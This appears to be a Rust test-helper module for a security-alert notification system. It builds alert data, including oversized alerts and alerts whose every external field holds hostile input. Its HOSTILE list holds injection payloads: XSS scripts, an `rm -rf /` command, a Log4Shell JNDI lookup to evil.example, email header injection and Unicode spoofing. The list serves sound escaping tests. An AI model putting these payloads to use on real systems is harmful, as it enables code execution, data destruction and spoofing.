//! What the tests of the kinds share: letters, with many alerts and with hostile values.

use sakimori_content::files;
use sakimori_model::Timestamp;
use sakimori_respond::message::line;
use serde_json::{Value, json};

use super::Letter;
use super::template::{Templates, full};
use crate::config::Language;

/// Values as an attacker may choose them for a user's, host's or rule's name.
pub const HOSTILE: &[&str] = &[
    "<!channel> <@U012AB3CD> <http://evil.example|click me> & `rm -rf /` *bold* _it_ ~no~",
    "</b></div><script>alert(1)</script><img src=x onerror=alert(2)>\"'",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) **b** # h",
    "root\r\nBcc: everybody@example.com\r\n\r\n<html>",
    "a|b\\|c=d\\=e ]} src=10.0.0.1",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/a} %s%n",
    "h1. wiki {code}x{code} [~admin] !image.png!",
    "\u{202e}gnp.exe\u{200b}\u{2028}x",
];

/// Facts of one alert in which all that may come from outside is this.
pub fn facts_with(hostile: &str) -> Value {
    let mut facts = full();
    let value = json!(line(hostile));
    let mut alert = facts["alerts"][0].clone();
    for field in ["user", "host", "detail", "text"] {
        alert[field] = value.clone();
    }
    alert["rule"]["title"] = value.clone();
    alert["actions"][0]["target"] = value.clone();
    alert["actions"][0]["reason"] = value.clone();
    facts["alerts"] = json!([alert]);
    facts["count"] = json!(1);
    facts["summary"] = value;
    facts
}

/// Facts of so many alerts, each as large as it can be, and of some that are not told one by one.
pub fn many(count: usize) -> Value {
    let mut facts = full();
    let mut alert = facts["alerts"][0].clone();
    for field in ["user", "host", "detail"] {
        alert[field] = json!(line(&"W".repeat(1_000)));
    }
    let action = alert["actions"][0].clone();
    alert["actions"] = (0..10).map(|_| action.clone()).collect();
    facts["alerts"] = (0..count).map(|_| alert.clone()).collect();
    facts["count"] = json!(count + 80);
    facts
}

/// Makes something of a letter with these facts.
pub fn letter<T>(facts: &Value, make: impl FnOnce(&Letter<'_>) -> T) -> T {
    let templates = Templates::load(&files::builtin(), Some("https://console.example"));
    let doc = templates.words(Language::En, "UTC").unwrap().of(facts);
    let body = facts.to_string();
    make(&Letter {
        id: "m1",
        may_be_repeat: false,
        reference: "",
        closes: None,
        created: Timestamp::from_secs(1_767_323_045),
        body: &body,
        facts,
        doc: &doc,
    })
}
